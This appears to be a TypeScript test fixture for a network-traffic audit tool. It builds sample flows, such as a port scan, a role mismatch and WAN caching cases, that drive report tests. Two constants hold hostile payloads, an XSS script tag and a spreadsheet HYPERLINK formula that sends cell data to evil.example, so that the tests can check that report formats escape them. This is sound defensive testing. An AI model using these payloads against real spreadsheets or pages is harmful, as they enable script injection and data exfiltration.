/**
 * One audit with every kind of finding, used by the report tests: a port scan, a role
 * mismatch, a no-rule flow, missing destinations with packet loss, WAN-cache violation,
 * must-not-cache and cacheable flows, an unused expectation — and hostile strings in
 * packet- and file-derived fields, to prove every format escapes them.
 */
import { runAudit } from '../../src/audit/audit.js';
import { withItems, type AuditWithItems } from './audit-items.js';
import type { AuditResult } from '../../src/audit/types.js';
import type { StoredFlow } from '../../src/store/types.js';
import {
  CLIENT, T0, TO_DP, TO_MP, TO_SQL, baselineFlows, capture, catalog, flow, site,
} from './audit-fixtures.js';

export const HOSTILE = '<script>alert(1)</script>';
export const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")';

export interface SampleOptions {
  scanPorts?: number;
}

export function sampleFlows(opts: SampleOptions = {}): StoredFlow[] {
  const scanPorts = opts.scanPorts ?? 10000;
  const flows: StoredFlow[] = baselineFlows().filter((f) => f.classification?.rule !== 'sccm.client-to-sup.wsus');
  // Plenty of ordinary expected traffic across the window, so the timeline has a shape.
  for (let i = 0; i < 300; i++) {
    flows.push(flow({ src: `10.1.${i % 7}.${(i % 200) + 1}`, dst: '10.0.0.10', dport: 80, start: T0 + i * 9, end: T0 + i * 9 + 2 },
      { rule: 'sccm.client-to-mp.http', how: 'direct', ...CLIENT, ...TO_MP }));
  }
  // A port scan from a branch host with no role.
  for (let p = 1; p <= scanPorts; p++) {
    flows.push(flow({ src: '10.20.9.9', sport: 40000, dst: '10.0.0.10', dport: p, state: 'S0', respPackets: 0, start: T0 + 1200 + p * 0.03, end: T0 + 1200 + p * 0.03 },
      { srcSite: 'branch-leeds', ...TO_MP }));
  }
  // A role mismatch with the classifier's nearest-rule evidence.
  flows.push(flow({ src: '10.1.4.4', dst: '10.0.0.20', dport: 1433, start: T0 + 300, end: T0 + 310 },
    { ...CLIENT, ...TO_SQL, evidence: 'port 1433 is allowed from management point, not from client (nearest rule sccm.mp-to-sql)' }));
  // A no-rule flow whose capture name and evidence carry hostile strings.
  flows.push(flow({ src: '10.1.4.5', dst: '10.0.0.10', dport: 4444, capture: HOSTILE, communityId: FORMULA, start: T0 + 400, end: T0 + 420 },
    { ...CLIENT, ...TO_MP }));
  // WAN: a violation (Riverbed probe), a must-not-cache crossing and a cacheable one.
  flows.push(flow({ src: '10.1.0.7', dst: '10.20.0.5', dport: 445, synOptions: [2, 4, 76], start: T0 + 500, end: T0 + 900 },
    { rule: 'sccm.client-to-dp.smb', how: 'direct', ...CLIENT, ...TO_DP }));
  for (let i = 0; i < 3; i++) {
    flows.push(flow({ src: `10.1.0.${20 + i}`, dst: '10.20.0.5', dport: 445, start: T0 + 1000 + i, end: T0 + 1100 },
      { rule: 'sccm.client-to-dp.smb', how: 'direct', ...CLIENT, ...TO_DP }));
  }
  flows.push(flow({ src: '10.1.0.8', dst: '10.20.0.5', dport: 80, start: T0 + 1500, end: T0 + 1510 },
    { rule: 'sccm.client-to-dp.http', how: 'direct', ...CLIENT, ...TO_DP }));
  // Ignored and out-of-scope noise.
  flows.push(flow({ proto: 17, src: '10.1.0.9', dst: '10.0.0.10', dport: 53, start: T0 + 50, end: T0 + 50 }, { ...CLIENT, ...TO_MP, ignored: true }));
  flows.push(flow({ src: '192.168.1.1', dst: '192.168.1.2', dport: 22, start: T0 + 70, end: T0 + 80 }, {}));
  return flows;
}

export function buildRichResult(opts: SampleOptions = {}): AuditWithItems {
  return withItems(runAudit({
    flows: sampleFlows(opts),
    captures: [
      capture({ id: 1, source: 'hq-core.pcapng', format: 'pcapng' }),
      capture({ id: 2, source: `leeds-${HOSTILE}.pcap`, drops: 37, status: 'partial', error: 'truncated record at byte 1048576', firstTs: T0 + 60, lastTs: T0 + 2600 }),
    ],
    catalog: catalog(),
    site: site(),
    unusedExpectations: [{ kind: 'epm', client: '10.1.0.5', server: '10.0.0.10', proto: 6, ports: '49668', parentFlowId: 3, captureId: 1, rule: null, evidence: 'port 49668 announced by EPM reply in flow #3', ts: T0 + 100 }],
    now: new Date('2024-03-01T10:00:00Z'),
  }));
}
